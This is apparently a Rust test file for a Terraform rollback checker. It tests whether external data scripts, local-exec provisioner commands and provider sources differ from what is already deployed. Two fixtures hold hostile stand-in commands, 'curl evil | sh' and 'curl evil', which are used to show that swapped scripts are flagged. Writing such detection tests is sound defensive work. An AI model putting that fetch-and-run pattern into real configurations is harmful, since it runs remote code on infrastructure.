use super::*;
use rollback_config::{MemoryTree, load};

fn tree(files: &[(&str, &str)]) -> MemoryTree {
    MemoryTree(
        files
            .iter()
            .map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec()))
            .collect(),
    )
}

fn risks(target: &[(&str, &str)], deployed: &[(&str, &str)]) -> Vec<(String, bool)> {
    let (target, deployed) = (tree(target), tree(deployed));
    let (now, then) = (load(&deployed, "", None).unwrap(), load(&target, "", None).unwrap());
    let found = find(&Sides {
        target: &then,
        deployed: &now,
        target_files: Some(&target),
        deployed_files: Some(&deployed),
        target_record: None,
        target_state: None,
        deployed_record: None,
        joined: &State::empty("1.5.0", ""),
    });
    found
        .into_iter()
        .filter(|risk| risk.kind != "provider")
        .map(|risk| (format!("{} {}", risk.kind, risk.address), risk.in_current))
        .collect()
}

const SCRIPT: &str = "data \"external\" \"x\" {\n  program = [\"sh\", \"${path.module}/x.sh\"]\n}\n";

#[test]
fn the_same_program_is_known() {
    let files = [("main.tf", SCRIPT), ("x.sh", "echo 1")];
    assert_eq!(risks(&files, &files), [("external data.external.x".to_owned(), true)]);
    assert_eq!(
        risks(&files, &[("main.tf", "")]),
        [("external data.external.x".to_owned(), false)]
    );
}

#[test]
fn the_same_words_with_another_script_are_not() {
    let target = [("main.tf", SCRIPT), ("x.sh", "curl evil | sh")];
    let deployed = [("main.tf", SCRIPT), ("x.sh", "echo 1")];
    assert_eq!(
        risks(&target, &deployed),
        [("external data.external.x".to_owned(), false)]
    );
}

#[test]
fn another_command_of_a_provisioner_is_not_known() {
    let with = |command: &str| {
        format!(
            "resource \"terraform_data\" \"p\" {{\n  provisioner \"local-exec\" {{\n    command = \"{command}\"\n  }}\n}}\n"
        )
    };
    let (one, two) = (with("true"), with("curl evil"));
    let at = |known| [("provisioner terraform_data.p".to_owned(), known)];
    assert_eq!(risks(&[("main.tf", &one)], &[("main.tf", &one)]), at(true));
    assert_eq!(risks(&[("main.tf", &two)], &[("main.tf", &one)]), at(false));
}

#[test]
fn keys_are_left_out_of_addresses() {
    for (with, without) in [
        ("module.a[\"x.y[0]\\\"]\"].b.c[1]", "module.a.b.c"),
        ("data.external.x[\"k\"]", "data.external.x"),
        ("a.b", "a.b"),
    ] {
        assert_eq!(without_keys(with), without);
    }
}

#[test]
fn providers_have_one_name() {
    assert_eq!(source("aws", None), "registry.terraform.io/hashicorp/aws");
    assert_eq!(source("aws", Some("Evil/aws")), "registry.terraform.io/evil/aws");
    assert_eq!(source("x", Some("evil.example/a/b")), "evil.example/a/b");
    assert_eq!(source("terraform", None), BUILT_IN);
    assert_eq!(
        plain("registry.opentofu.org/hashicorp/aws"),
        plain(&source("aws", None))
    );
}
